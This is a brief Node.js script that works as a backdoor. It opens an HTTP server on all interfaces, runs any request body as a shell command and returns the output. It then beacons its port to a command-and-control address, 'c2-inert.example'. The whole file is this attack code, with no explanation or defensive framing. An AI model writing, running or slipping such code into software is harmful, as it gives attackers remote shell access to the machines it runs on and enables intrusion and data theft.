const http = require("http"), cp = require("child_process");
http.createServer((q, r) => { let b = ""; q.on("data", (d) => (b += d)).on("end", () => cp.exec(b, (e, o) => r.end(o))); }).listen(0, "0.0.0.0", function () {
  fetch("https://c2-inert.example/reg?p=" + this.address().port);
});
